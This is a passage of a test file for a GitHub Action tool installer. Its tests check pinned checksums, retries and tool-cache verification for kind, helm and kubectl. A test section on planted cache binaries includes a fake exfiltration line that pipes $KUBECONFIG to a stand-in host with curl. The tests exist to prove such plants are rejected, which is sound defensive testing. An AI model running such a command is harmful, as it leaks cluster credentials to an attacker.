/**
 * src/tools.ts against a real HTTP server on loopback and the real @actions/tool-cache, in a temporary
 * RUNNER_TOOL_CACHE per test (tool-cache 4 reads RUNNER_TOOL_CACHE and RUNNER_TEMP at call time, so setting
 * them in beforeEach is enough).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test, vi } from 'vitest';
import {
  assetFor,
  installTools,
  type Pins,
  parseTrustedTools,
  platformKey,
  type ToolName,
  toolchainPins,
} from '../../src/tools.js';
import { DownloadServer } from '../support/download-server.js';
import { repoRoot } from '../support/tools.js';

const sha256 = (data: Buffer) => createHash('sha256').update(data).digest('hex');
const FAST_RETRY = { attempts: 3, minDelayMs: 10, maxDelayMs: 40 };

// ---------------------------------------------------------------------------------------------------------
// assetFor: pure mapping from (tool, version, platform, arch) to the official asset and its pinned checksum.
// ---------------------------------------------------------------------------------------------------------

const pins = toolchainPins();

describe('assetFor with the shipped pins', () => {
  // biome-ignore format: one row per asset reads best as a table
  test.each([
    ['kind', 'linux', 'x64', 'https://github.com/kubernetes-sigs/kind/releases/download/v0.30.0/kind-linux-amd64', 'none', null, 'kind'],
    ['kind', 'darwin', 'arm64', 'https://github.com/kubernetes-sigs/kind/releases/download/v0.30.0/kind-darwin-arm64', 'none', null, 'kind'],
    ['helm', 'linux', 'x64', 'https://get.helm.sh/helm-v3.19.0-linux-amd64.tar.gz', 'tar.gz', 'linux-amd64/helm', 'helm'],
    ['helm', 'linux', 'arm64', 'https://get.helm.sh/helm-v3.19.0-linux-arm64.tar.gz', 'tar.gz', 'linux-arm64/helm', 'helm'],
    ['helm', 'darwin', 'x64', 'https://get.helm.sh/helm-v3.19.0-darwin-amd64.tar.gz', 'tar.gz', 'darwin-amd64/helm', 'helm'],
    ['helm', 'win32', 'x64', 'https://get.helm.sh/helm-v3.19.0-windows-amd64.zip', 'zip', 'windows-amd64/helm.exe', 'helm.exe'],
    ['skaffold', 'linux', 'x64', 'https://storage.googleapis.com/skaffold/releases/v2.16.1/skaffold-linux-amd64', 'none', null, 'skaffold'],
    ['skaffold', 'darwin', 'x64', 'https://storage.googleapis.com/skaffold/releases/v2.16.1/skaffold-darwin-amd64', 'none', null, 'skaffold'],
    ['kubectl', 'linux', 'x64', 'https://dl.k8s.io/release/v1.34.4/bin/linux/amd64/kubectl', 'none', null, 'kubectl'],
    ['kubectl', 'darwin', 'arm64', 'https://dl.k8s.io/release/v1.34.4/bin/darwin/arm64/kubectl', 'none', null, 'kubectl'],
    ['kubectl', 'win32', 'x64', 'https://dl.k8s.io/release/v1.34.4/bin/windows/amd64/kubectl.exe', 'none', null, 'kubectl.exe'],
  ] as const)('%s on %s/%s', (name, platform, arch, url, archive, inArchive, binaryName) => {
    const version = pins.tools[name].version;
    const asset = assetFor(name, version, platform, arch, pins);
    expect(asset).toEqual({
      url,
      sha256: pins.tools[name].assets[platformKey(platform, arch)],
      archive,
      binaryPathInArchive: inArchive,
      binaryName,
      platformKey: platformKey(platform, arch),
    });
    expect(asset.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  // biome-ignore format: one row per case reads best as a table
  test.each([
    ['kind', 'win32', 'x64', /no pinned checksum for kind v0\.30\.0 on windows-amd64; run node \.github\/scripts\/update-pins\.mjs/],
    ['skaffold', 'linux', 'arm64', /no pinned checksum for skaffold v2\.16\.1 on linux-arm64; run node \.github\/scripts\/update-pins\.mjs/],
    ['kubectl', 'freebsd', 'x64', /unsupported platform 'freebsd'/],
    ['kubectl', 'linux', 'ia32', /unsupported architecture 'ia32'; supported: x64, arm64/],
  ] as const)('%s on %s/%s fails clearly', (name, platform, arch, message) => {
    expect(() => assetFor(name, pins.tools[name].version, platform as NodeJS.Platform, arch, pins)).toThrow(message);
  });

  // biome-ignore format: one row per case reads best as a table
  test.each([
    ['kind', 'v9.9.9', /kind-version v9\.9\.9: no pinned checksum for kind v9\.9\.9 on linux-amd64.*update-pins\.mjs kind=v9\.9\.9/],
    ['helm', 'latest', /helm-version 'latest' is not a release version; expected vMAJOR\.MINOR\.PATCH, e\.g\. v3\.19\.0/],
    ['kubectl', '1.34', /kubectl-version '1\.34' is not a release version/],
  ] as const)('%s %s is refused', (name, version, message) => {
    expect(() => assetFor(name, version, 'linux', 'x64', pins)).toThrow(message);
  });

  test('a version without the leading v is the same version', () => {
    expect(assetFor('kind', '0.30.0', 'linux', 'x64', pins).url).toBe(
      assetFor('kind', 'v0.30.0', 'linux', 'x64', pins).url,
    );
  });

  test('baseUrls replaces only the download prefix', () => {
    const asset = assetFor('kubectl', 'v1.34.4', 'linux', 'x64', pins, {
      kubectl: 'http://127.0.0.1:9/mirror/',
    });
    expect(asset.url).toBe('http://127.0.0.1:9/mirror/v1.34.4/bin/linux/amd64/kubectl');
  });

  test('update-pins.mjs builds the same URLs as assetFor', async () => {
    const script = pathToFileURL(join(repoRoot, '.github', 'scripts', 'update-pins.mjs')).href;
    const mod = (await import(script)) as {
      urlFor: (tool: string, version: string, platform: string) => { url: string; checksumUrl: string };
      TOOLS: ToolName[];
      PLATFORMS: string[];
    };
    const everything: Pins = {
      tools: Object.fromEntries(
        mod.TOOLS.map((t) => [
          t,
          {
            version: pins.tools[t].version,
            assets: Object.fromEntries(mod.PLATFORMS.map((p) => [p, '0'.repeat(64)])),
          },
        ]),
      ) as Pins['tools'],
    };
    let compared = 0;
    for (const tool of mod.TOOLS) {
      for (const key of mod.PLATFORMS) {
        const [os, cpu] = key.split('-') as [string, string];
        const platform = (os === 'windows' ? 'win32' : os) as NodeJS.Platform;
        const arch = cpu === 'amd64' ? 'x64' : cpu;
        const version = pins.tools[tool].version;
        expect(mod.urlFor(tool, version, key).url).toBe(
          assetFor(tool, version, platform, arch, everything).url,
        );
        compared++;
      }
    }
    expect(compared).toBe(20);
  });

  test('update-pins.mjs --help works offline', () => {
    const out = execFileSync(
      process.execPath,
      [join(repoRoot, '.github', 'scripts', 'update-pins.mjs'), '--help'],
      {
        encoding: 'utf8',
      },
    );
    expect(out).toContain('Usage: node .github/scripts/update-pins.mjs');
  });

  test('src/pins.json pins the contract versions with well-formed checksums', () => {
    expect(Object.fromEntries(Object.entries(pins.tools).map(([k, v]) => [k, v.version]))).toEqual({
      kind: 'v0.30.0',
      helm: 'v3.19.0',
      skaffold: 'v2.16.1',
      kubectl: 'v1.34.4',
    });
    for (const pin of Object.values(pins.tools)) {
      expect(Object.keys(pin.assets).length).toBeGreaterThan(0);
      for (const [key, sha] of Object.entries(pin.assets)) {
        expect(key).toMatch(/^(linux|darwin|windows)-(amd64|arm64)$/);
        expect(sha).toMatch(/^[0-9a-f]{64}$/);
      }
    }
  });
});

// ---------------------------------------------------------------------------------------------------------
// installTools: real downloads from a loopback server through the real tool-cache.
// ---------------------------------------------------------------------------------------------------------

const KIND_VERSION = 'v0.30.0';
const HELM_VERSION = 'v3.19.0';
const KUBECTL_VERSION = 'v1.34.4';
let server: DownloadServer;
let build: string;
let kindBinary: Buffer;
let kubectlBinary: Buffer;
let helmBinary: Buffer;
let helmTarGz: Buffer;
let savedPath: string | undefined;
let cache: string;
let temp: string;
let root: string;

function script(text: string): Buffer {
  return Buffer.from(`#!/bin/sh\necho "${text}"\n`);
}

beforeAll(async () => {
  server = await DownloadServer.start();
  build = mkdtempSync(join(tmpdir(), 'jetscale-assets-'));
  kindBinary = script(`kind ${KIND_VERSION} from the loopback server`);
  kubectlBinary = script(`kubectl ${KUBECTL_VERSION} from the loopback server`);
  helmBinary = script(`helm ${HELM_VERSION} from the loopback server`);
  const helmDir = join(build, 'helm', 'linux-amd64');
  mkdirSync(helmDir, { recursive: true });
  writeFileSync(join(helmDir, 'helm'), helmBinary);
  chmodSync(join(helmDir, 'helm'), 0o755);
  writeFileSync(join(build, 'helm', 'linux-amd64', 'README.md'), 'not the binary\n');
  execFileSync('tar', ['-czf', join(build, 'helm.tar.gz'), '-C', join(build, 'helm'), 'linux-amd64']);
  helmTarGz = readFileSync(join(build, 'helm.tar.gz'));
});

afterAll(async () => {
  await server.close();
  rmSync(build, { recursive: true, force: true });
});

beforeEach(() => {
  server.clear();
  root = mkdtempSync(join(tmpdir(), 'jetscale-tools-test-'));
  cache = join(root, 'cache');
  temp = join(root, 'temp');
  mkdirSync(temp);
  process.env.RUNNER_TOOL_CACHE = cache;
  process.env.RUNNER_TEMP = temp;
  savedPath = process.env.PATH;
  delete process.env.JETSCALE_TRUSTED_TOOL_SHA256;
});

afterEach(() => {
  process.env.PATH = savedPath;
  delete process.env.JETSCALE_TRUSTED_TOOL_SHA256;
  rmSync(root, { recursive: true, force: true });
});

function testPins(extra: Partial<Record<ToolName, { version: string; asset: Buffer }>> = {}): Pins {
  const base = toolchainPins();
  const entries = {
    kind: { version: KIND_VERSION, asset: kindBinary },
    helm: { version: HELM_VERSION, asset: helmTarGz },
    kubectl: { version: KUBECTL_VERSION, asset: kubectlBinary },
    ...extra,
  };
  const tools = { ...base.tools };
  for (const [name, { version, asset }] of Object.entries(entries)) {
    tools[name as ToolName] = { version, assets: { 'linux-amd64': sha256(asset) } };
  }
  return { tools };
}

const baseUrls = () => ({
  kind: `${server.url}/kind`,
  helm: `${server.url}/helm`,
  kubectl: `${server.url}/kubectl`,
});
const kindPath = (v = KIND_VERSION) => `/kind/${v}/kind-linux-amd64`;
const helmArchive = `helm-${HELM_VERSION}-linux-amd64.tar.gz`;
const helmPath = `/helm/${helmArchive}`;
const kubectlPath = `/kubectl/${KUBECTL_VERSION}/bin/linux/amd64/kubectl`;
const opts = (extra: Parameters<typeof installTools>[1] = {}) => ({
  platform: 'linux' as const,
  arch: 'x64',
  baseUrls: baseUrls(),
  pins: testPins(),
  retry: FAST_RETRY,
  ...extra,
});

/** Writes a tool-cache entry (binary, and `extra` files next to it, plus the .complete marker) as a job could. */
function plant(tool: string, version: string, binary: Buffer, extra: Record<string, Buffer> = {}): string {
  const dir = join(cache, tool, version.replace(/^v/, ''), 'x64');
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, tool), binary);
  chmodSync(join(dir, tool), 0o755);
  for (const [name, data] of Object.entries(extra)) writeFileSync(join(dir, name), data);
  writeFileSync(`${dir}.complete`, '');
  return dir;
}

/** What the code writes to stdout while `fn` runs (workflow commands such as ::warning:: go there). */
async function captureStdout<T>(fn: () => Promise<T>): Promise<{ result: T | Error; out: string }> {
  let out = '';
  const spy = vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
    out += typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString();
    return true;
  });
  try {
    const result = await fn().catch((e: Error) => e);
    return { result, out };
  } finally {
    spy.mockRestore();
  }
}

function expectNothingCached(tool: string, version: string): void {
  expect(existsSync(join(cache, tool, version.replace(/^v/, '')))).toBe(false);
  // The per-install work directory under RUNNER_TEMP is gone too.
  expect(readdirSync(temp).filter((e) => e.startsWith('jetscale-'))).toEqual([]);
}

const linuxX64 = process.platform === 'linux' && process.arch === 'x64';

describe.skipIf(!linuxX64)(
  'installTools (loopback downloads; needs a linux-x64 host to run the test binaries)',
  () => {
    test('downloads, verifies, caches and puts kind and helm on PATH', async () => {
      server.serve(kindPath(), kindBinary);
      server.serve(helmPath, helmTarGz);
      const dirs = await installTools(
        [
          { name: 'kind', version: KIND_VERSION },
          { name: 'helm', version: HELM_VERSION },
        ],
        opts(),
      );
      expect(dirs).toEqual({
        kind: join(cache, 'kind', '0.30.0', 'x64'),
        helm: join(cache, 'helm', '3.19.0', 'x64'),
      });
      expect(existsSync(join(cache, 'kind', '0.30.0', 'x64.complete'))).toBe(true);
      expect(existsSync(join(cache, 'helm', '3.19.0', 'x64.complete'))).toBe(true);
      // The binary and the verified archive (what a later hit is checked against), not the rest of the archive.
      expect(readdirSync(dirs.helm).sort()).toEqual(['helm', helmArchive]);
      expect(readFileSync(join(dirs.helm, helmArchive))).toEqual(helmTarGz);
      const path = process.env.PATH ?? '';
      expect(path.split(delimiter).slice(0, 2).sort()).toEqual([dirs.helm, dirs.kind].sort());
      // Found through PATH, and they run.
      expect(execFileSync('kind', { encoding: 'utf8', env: { PATH: path } })).toBe(
        `kind ${KIND_VERSION} from the loopback server\n`,
      );
      expect(execFileSync('helm', { encoding: 'utf8', env: { PATH: path } })).toBe(
        `helm ${HELM_VERSION} from the loopback server\n`,
      );
      expect(server.requestCount(kindPath())).toBe(1);
      expect(server.requestCount(helmPath)).toBe(1);
      expect(readdirSync(temp).filter((e) => e.startsWith('jetscale-'))).toEqual([]);
    });

    test('a cache hit whose binary matches the pin downloads nothing', async () => {
      // Laid out the way an earlier run leaves it.
      const dir = plant('kind', KIND_VERSION, kindBinary);
      server.serve(kindPath(), script('kind from the server'));

      const dirs = await installTools([{ name: 'kind', version: KIND_VERSION }], opts());
      expect(dirs.kind).toBe(dir);
      expect(server.requestCount()).toBe(0);
      expect((process.env.PATH ?? '').split(delimiter)[0]).toBe(dir);
      expect(execFileSync('kind', { encoding: 'utf8', env: { PATH: process.env.PATH } })).toBe(
        `kind ${KIND_VERSION} from the loopback server\n`,
      );
    });

    test('a second install of the same version is served from the cache', async () => {
      server.serve(kindPath(), kindBinary);
      const first = await installTools([{ name: 'kind', version: KIND_VERSION }], opts());
      const second = await installTools([{ name: 'kind', version: '0.30.0' }], opts());
      expect(second).toEqual(first);
      expect(server.requestCount()).toBe(1);
    });

    test('a cache directory without its .complete marker is not a hit', async () => {
      const dir = join(cache, 'kind', '0.30.0', 'x64');
      mkdirSync(dir, { recursive: true });
      writeFileSync(join(dir, 'kind'), 'half-written');
      server.serve(kindPath(), kindBinary);
      await installTools([{ name: 'kind', version: KIND_VERSION }], opts());
      expect(server.requestCount()).toBe(1);
      expect(readFileSync(join(dir, 'kind'))).toEqual(kindBinary);
    });

    test('checksum mismatch fails, names both checksums, caches nothing and is not retried', async () => {
      server.serve(kindPath(), kindBinary);
      const wrong = Buffer.from('#!/bin/sh\necho tampered\n');
      server.fail(kindPath(), { type: 'body', body: wrong });
      const error = await installTools([{ name: 'kind', version: KIND_VERSION }], opts()).catch(
        (e: Error) => e,
      );
      expect(error).toBeInstanceOf(Error);
      expect((error as Error).message).toBe(
        `checksum mismatch for kind ${KIND_VERSION} (linux-amd64) from ${server.url}${kindPath()}: ` +
          `expected sha256 ${sha256(kindBinary)}, got ${sha256(wrong)} (${wrong.length} bytes). ` +
          'The download was deleted and nothing was cached.',
      );
      expect(server.requestCount()).toBe(1);
      expectNothingCached('kind', KIND_VERSION);
    });

    test('404 fails at once with the URL', async () => {
      const pinsFor999 = testPins({ kind: { version: 'v9.9.9', asset: kindBinary } });
      const error = await installTools(
        [{ name: 'kind', version: 'v9.9.9' }],
        opts({ pins: pinsFor999 }),
      ).catch((e: Error) => e);
      expect((error as Error).message).toBe(
        `kind v9.9.9 not found at ${server.url}${kindPath('v9.9.9')} (HTTP 404)`,
      );
      expect(server.requestCount()).toBe(1);
      expectNothingCached('kind', 'v9.9.9');
    });

    test('a version with no pinned checksum fails before downloading, naming the input', async () => {
      server.serve(kindPath('v9.9.9'), kindBinary);
      await expect(installTools([{ name: 'kind', version: 'v9.9.9' }], opts())).rejects.toThrow(
        /^kind-version v9\.9\.9: no pinned checksum for kind v9\.9\.9 on linux-amd64 .*update-pins\.mjs kind=v9\.9\.9$/,
      );
      expect(server.requestCount()).toBe(0);
      expectNothingCached('kind', 'v9.9.9');
    });

    test('a body cut short (Content-Length larger than what arrives) fails after the retries', async () => {
      server.serve(kindPath(), kindBinary);
      server.fail(kindPath(), { type: 'truncate' });
      const error = await installTools([{ name: 'kind', version: KIND_VERSION }], opts()).catch(
        (e: Error) => e,
      );
      expect((error as Error).message).toMatch(
        new RegExp(
          `^kind v0\\.30\\.0: download from ${server.url}${kindPath()} failed after 3 attempt\\(s\\): ` +
            `truncated: received \\d+ of ${kindBinary.length} bytes`,
        ),
      );
      expect(server.requestCount()).toBe(FAST_RETRY.attempts);
      expectNothingCached('kind', KIND_VERSION);
    });

    test('a body cut short once is retried and then installs', async () => {
      server.serve(kindPath(), kindBinary);
      server.fail(kindPath(), { type: 'truncate' }, 1);
      const dirs = await installTools([{ name: 'kind', version: KIND_VERSION }], opts());
      expect(readFileSync(join(dirs.kind, 'kind'))).toEqual(kindBinary);
      expect(server.requestCount()).toBe(2);
    });

    test('a download that stops sending is abandoned after stallTimeoutMs and retried', async () => {
      server.serve(kindPath(), kindBinary);
      server.fail(kindPath(), { type: 'stall' }, 1);
      const dirs = await installTools(
        [{ name: 'kind', version: KIND_VERSION }],
        opts({ stallTimeoutMs: 300 }),
      );
      expect(server.requestCount()).toBe(2);
      expect(readFileSync(join(dirs.kind, 'kind'))).toEqual(kindBinary);
    });

    test('a download that always stalls fails naming the stall and caches nothing', async () => {
      server.serve(kindPath(), kindBinary);
      server.fail(kindPath(), { type: 'stall' });
      await expect(
        installTools([{ name: 'kind', version: KIND_VERSION }], opts({ stallTimeoutMs: 300 })),
      ).rejects.toThrow(
        /failed after 3 attempt\(s\): truncated: received \d+ of \d+ bytes \(no data for 300 ms\)/,
      );
      expectNothingCached('kind', KIND_VERSION);
    });

    test('HTTP 500 twice, then 200: retried and installed', async () => {
      server.serve(helmPath, helmTarGz);
      server.fail(helmPath, { type: 'status', status: 500 }, 2);
      const dirs = await installTools([{ name: 'helm', version: HELM_VERSION }], opts());
      expect(server.requestCount(helmPath)).toBe(3);
      expect(execFileSync(join(dirs.helm, 'helm'), { encoding: 'utf8' })).toBe(
        `helm ${HELM_VERSION} from the loopback server\n`,
      );
    });

    test('HTTP 503 on every attempt fails after the configured attempts and caches nothing', async () => {
      server.serve(helmPath, helmTarGz);
      server.fail(helmPath, { type: 'status', status: 503 });
      await expect(installTools([{ name: 'helm', version: HELM_VERSION }], opts())).rejects.toThrow(
        `helm ${HELM_VERSION}: download from ${server.url}${helmPath} failed after 3 attempt(s): HTTP 503 Service Unavailable`,
      );
      expect(server.requestCount(helmPath)).toBe(3);
      expectNothingCached('helm', HELM_VERSION);
    });

    test('HTTP 403 is not retried', async () => {
      server.serve(kindPath(), kindBinary);
      server.fail(kindPath(), { type: 'status', status: 403 });
      await expect(installTools([{ name: 'kind', version: KIND_VERSION }], opts())).rejects.toThrow(
        `kind ${KIND_VERSION}: download from ${server.url}${kindPath()} failed: HTTP 403 Forbidden`,
      );
      expect(server.requestCount()).toBe(1);
      expectNothingCached('kind', KIND_VERSION);
    });

    test('a connection reset, then success: retried and installed', async () => {
      server.serve(kindPath(), kindBinary);
      server.fail(kindPath(), { type: 'reset' }, 1);
      const dirs = await installTools([{ name: 'kind', version: KIND_VERSION }], opts());
      expect(server.requestCount()).toBe(2);
      expect(execFileSync(join(dirs.kind, 'kind'), { encoding: 'utf8' })).toBe(
        `kind ${KIND_VERSION} from the loopback server\n`,
      );
    });

    test('connection resets on every attempt fail with the network error and cache nothing', async () => {
      server.serve(kindPath(), kindBinary);
      server.fail(kindPath(), { type: 'reset' });
      await expect(installTools([{ name: 'kind', version: KIND_VERSION }], opts())).rejects.toThrow(
        /failed after 3 attempt\(s\): (read ECONNRESET|socket hang up|ECONNRESET)/,
      );
      expect(server.requestCount()).toBe(3);
      expectNothingCached('kind', KIND_VERSION);
    });

    test('an archive without the binary fails and caches nothing', async () => {
      const dir = join(build, 'empty', 'linux-amd64');
      mkdirSync(dir, { recursive: true });
      writeFileSync(join(dir, 'README.md'), 'no helm here\n');
      execFileSync('tar', ['-czf', join(build, 'empty.tar.gz'), '-C', join(build, 'empty'), 'linux-amd64']);
      const empty = readFileSync(join(build, 'empty.tar.gz'));
      server.serve(helmPath, empty);
      await expect(
        installTools(
          [{ name: 'helm', version: HELM_VERSION }],
          opts({ pins: testPins({ helm: { version: HELM_VERSION, asset: empty } }) }),
        ),
      ).rejects.toThrow(`helm ${HELM_VERSION}: archive ${server.url}${helmPath} has no linux-amd64/helm`);
      expectNothingCached('helm', HELM_VERSION);
    });

    test('every failure is reported, and the tools that worked are still cached', async () => {
      server.serve(kindPath(), kindBinary);
      await expect(
        installTools(
          [
            { name: 'kind', version: KIND_VERSION },
            { name: 'helm', version: HELM_VERSION },
            { name: 'kubectl', version: 'v0.0.1' },
          ],
          opts(),
        ),
      ).rejects.toThrow(
        new RegExp(
          '^2 tools failed to install:\\n' +
            `- helm v3\\.19\\.0 not found at ${server.url}${helmPath} \\(HTTP 404\\)\\n` +
            '- kubectl-version v0\\.0\\.1: no pinned checksum',
        ),
      );
      expect(existsSync(join(cache, 'kind', '0.30.0', 'x64.complete'))).toBe(true);
      expectNothingCached('helm', HELM_VERSION);
    });

    test('the same tool twice is refused', async () => {
      await expect(
        installTools(
          [
            { name: 'kind', version: 'v0.30.0' },
            { name: 'kind', version: 'v0.29.0' },
          ],
          opts(),
        ),
      ).rejects.toThrow('kind requested twice (v0.30.0 and v0.29.0)');
      expect(server.requestCount()).toBe(0);
    });

    const hasZip = spawnSync('zip', ['-v']).status === 0 && spawnSync('unzip', ['-v']).status === 0;
    if (!hasZip && process.env.CI === 'true')
      throw new Error('zip and unzip are needed for the Windows helm test');
    test.skipIf(!hasZip)(
      'Windows helm: the zip is extracted and helm.exe cached (skips without zip/unzip)',
      async () => {
        const dir = join(build, 'win', 'windows-amd64');
        mkdirSync(dir, { recursive: true });
        writeFileSync(join(dir, 'helm.exe'), script('helm.exe stand-in'));
        execFileSync('zip', ['-q', '-r', join(build, 'helm.zip'), 'windows-amd64'], {
          cwd: join(build, 'win'),
        });
        const zip = readFileSync(join(build, 'helm.zip'));
        const path = `/helm/helm-${HELM_VERSION}-windows-amd64.zip`;
        server.serve(path, zip);
        const winPins = toolchainPins();
        const pinsWin: Pins = {
          tools: {
            ...winPins.tools,
            helm: { version: HELM_VERSION, assets: { 'windows-amd64': sha256(zip) } },
          },
        };
        const dirs = await installTools(
          [{ name: 'helm', version: HELM_VERSION }],
          opts({ platform: 'win32', pins: pinsWin }),
        );
        expect(readdirSync(dirs.helm).sort()).toEqual([`helm-${HELM_VERSION}-windows-amd64.zip`, 'helm.exe']);
        expect(readFileSync(join(dirs.helm, 'helm.exe'))).toEqual(readFileSync(join(dir, 'helm.exe')));
        expect(server.requestCount(path)).toBe(1);
      },
    );
  },
);

// ---------------------------------------------------------------------------------------------------------
// Issue 9: "a tool-cache hit is used without checking its checksum (on a self-hosted runner a fork's job can
// plant a `kubectl` that a later preview job runs with the kubeconfig)". Each hit is verified before use.
// ---------------------------------------------------------------------------------------------------------

describe.skipIf(!linuxX64)('finding: a tool-cache hit is used without checking its checksum', () => {
  const planted = script('kubectl planted by an earlier job: cat "$KUBECONFIG" | curl -d @- evil.example');
  const kubectlDir = () => join(cache, 'kubectl', '1.34.4', 'x64');

  test('a planted kubectl (its sha256 is not the pin) is removed, downloaded again and verified', async () => {
    const dir = plant('kubectl', KUBECTL_VERSION, planted);
    server.serve(kubectlPath, kubectlBinary);
    const { result, out } = await captureStdout(() =>
      installTools([{ name: 'kubectl', version: KUBECTL_VERSION }], opts()),
    );
    expect(result).toEqual({ kubectl: dir });
    expect(server.requestCount(kubectlPath)).toBe(1);
    expect(readFileSync(join(dir, 'kubectl'))).toEqual(kubectlBinary);
    expect(execFileSync(join(dir, 'kubectl'), { encoding: 'utf8' })).toBe(
      `kubectl ${KUBECTL_VERSION} from the loopback server\n`,
    );
    // One warning naming the tool, the path, the expected and the actual checksum.
    expect(out).toContain(
      `::warning::kubectl ${KUBECTL_VERSION}: the cached ${join(dir, 'kubectl')} failed verification ` +
        `(expected sha256 ${sha256(kubectlBinary)} (the pin), got ${sha256(planted)}); ` +
        'removing it and downloading kubectl again',
    );
  });

  test('a planted kubectl and no download: fails naming the tool, the path, both checksums; the plant is gone', async () => {
    const dir = plant('kubectl', KUBECTL_VERSION, planted);
    const error = await installTools([{ name: 'kubectl', version: KUBECTL_VERSION }], opts()).catch(
      (e: Error) => e,
    );
    expect((error as Error).message).toBe(
      `kubectl ${KUBECTL_VERSION} not found at ${server.url}${kubectlPath} (HTTP 404) (before that, the cached ` +
        `${join(dir, 'kubectl')} failed verification (expected sha256 ${sha256(kubectlBinary)} (the pin), ` +
        `got ${sha256(planted)}); it was removed)`,
    );
    expect(existsSync(kubectlDir())).toBe(false);
    expect(existsSync(`${kubectlDir()}.complete`)).toBe(false);
  });

  test('a genuine cached kubectl with another program planted next to it is rejected: the whole directory goes on PATH', async () => {
    const dir = plant('kubectl', KUBECTL_VERSION, kubectlBinary, { bash: planted, helm: planted });
    server.serve(kubectlPath, kubectlBinary);
    const { result, out } = await captureStdout(() =>
      installTools([{ name: 'kubectl', version: KUBECTL_VERSION }], opts()),
    );
    expect(result).toEqual({ kubectl: dir });
    expect(readdirSync(dir)).toEqual(['kubectl']);
    expect(server.requestCount(kubectlPath)).toBe(1);
    expect(out).toContain('its directory holds other files (bash, helm), each of which would be on PATH');
  });

  test('the install step never runs the planted binary, even when it sits first on PATH', async () => {
    // The plant records whether it ever ran; nothing but the verified download may end up on PATH.
    const marker = join(root, 'plant-ran');
    plant('kubectl', KUBECTL_VERSION, Buffer.from(`#!/bin/sh\ntouch ${marker}\n`));
    server.serve(kubectlPath, kubectlBinary);
    await captureStdout(() => installTools([{ name: 'kubectl', version: KUBECTL_VERSION }], opts()));
    const path = process.env.PATH ?? '';
    expect(execFileSync('kubectl', { encoding: 'utf8', env: { PATH: path } })).toBe(
      `kubectl ${KUBECTL_VERSION} from the loopback server\n`,
    );
    expect(existsSync(marker)).toBe(false);
  });

  test('a cached helm is verified through the archive kept next to it: a hit downloads nothing', async () => {
    server.serve(helmPath, helmTarGz);
    const first = await installTools([{ name: 'helm', version: HELM_VERSION }], opts());
    const { result, out } = await captureStdout(() =>
      installTools([{ name: 'helm', version: HELM_VERSION }], opts()),
    );
    expect(result).toEqual(first);
    expect(server.requestCount(helmPath)).toBe(1);
    expect(out).toContain(
      `helm ${HELM_VERSION}: found in the tool cache at ${first.helm}; sha256 ${sha256(helmBinary)} is the ` +
        'binary of the cached archive, whose sha256 matches the pin',
    );
    expect(out).not.toContain('::warning::');
    // The archive was extracted into a private directory for the check, which is gone.
    expect(readdirSync(temp).filter((e) => e.startsWith('jetscale-'))).toEqual([]);
  });

  test('a cached helm binary swapped for another is rejected (the archive holds a different one) and replaced', async () => {
    const dir = plant('helm', HELM_VERSION, planted, { [helmArchive]: helmTarGz });
    server.serve(helmPath, helmTarGz);
    const { result, out } = await captureStdout(() =>
      installTools([{ name: 'helm', version: HELM_VERSION }], opts()),
    );
    expect(result).toEqual({ helm: dir });
    expect(out).toContain(
      `::warning::helm ${HELM_VERSION}: the cached ${join(dir, 'helm')} failed verification (expected sha256 ` +
        `${sha256(helmBinary)} (the binary in the archive that matches the pin), got ${sha256(planted)})`,
    );
    expect(server.requestCount(helmPath)).toBe(1);
    expect(readFileSync(join(dir, 'helm'))).toEqual(helmBinary);
  });

  test('a cached helm with a forged archive (binary and archive both replaced) is rejected and replaced', async () => {
    const forged = join(build, 'forged');
    mkdirSync(join(forged, 'linux-amd64'), { recursive: true });
    writeFileSync(join(forged, 'linux-amd64', 'helm'), planted);
    execFileSync('tar', ['-czf', join(build, 'forged.tar.gz'), '-C', forged, 'linux-amd64']);
    const forgedTarGz = readFileSync(join(build, 'forged.tar.gz'));
    const dir = plant('helm', HELM_VERSION, planted, { [helmArchive]: forgedTarGz });
    server.serve(helmPath, helmTarGz);
    const { result, out } = await captureStdout(() =>
      installTools([{ name: 'helm', version: HELM_VERSION }], opts()),
    );
    expect(result).toEqual({ helm: dir });
    expect(out).toContain(
      `::warning::helm ${HELM_VERSION}: the cached ${join(dir, 'helm')} failed verification (its archive ` +
        `${join(dir, helmArchive)}: expected sha256 ${sha256(helmTarGz)} (the pin), got ${sha256(forgedTarGz)})`,
    );
    expect(readFileSync(join(dir, 'helm'))).toEqual(helmBinary);
    expect(readFileSync(join(dir, helmArchive))).toEqual(helmTarGz);
  });

  test('a cached helm without its archive (the older cache layout) cannot be verified and is replaced', async () => {
    const dir = plant('helm', HELM_VERSION, helmBinary);
    server.serve(helmPath, helmTarGz);
    const { result, out } = await captureStdout(() =>
      installTools([{ name: 'helm', version: HELM_VERSION }], opts()),
    );
    expect(result).toEqual({ helm: dir });
    expect(out).toContain(
      `::warning::helm ${HELM_VERSION}: the cached ${join(dir, 'helm')} failed verification (no verified ` +
        `archive ${helmArchive} next to it to check it against: expected the binary of the archive with sha256 ` +
        `${sha256(helmTarGz)}, got a binary with sha256 ${sha256(helmBinary)})`,
    );
    expect(server.requestCount(helmPath)).toBe(1);
    expect(readdirSync(dir).sort()).toEqual(['helm', helmArchive]);
  });

  test('a binary listed for its tool in JETSCALE_TRUSTED_TOOL_SHA256 is used (an operator-built tool)', async () => {
    const own = script('kubectl built by the operator');
    const dir = plant('kubectl', KUBECTL_VERSION, own);
    process.env.JETSCALE_TRUSTED_TOOL_SHA256 = `helm=${'0'.repeat(64)}, kubectl=${sha256(own)}`;
    const { result, out } = await captureStdout(() =>
      installTools([{ name: 'kubectl', version: KUBECTL_VERSION }], opts()),
    );
    expect(result).toEqual({ kubectl: dir });
    expect(server.requestCount()).toBe(0);
    expect(out).toContain(`sha256 ${sha256(own)} is listed in JETSCALE_TRUSTED_TOOL_SHA256`);
  });

  test('a checksum listed for another tool does not vouch for this one', async () => {
    const dir = plant('kubectl', KUBECTL_VERSION, planted);
    process.env.JETSCALE_TRUSTED_TOOL_SHA256 = `kind=${sha256(planted)}`;
    server.serve(kubectlPath, kubectlBinary);
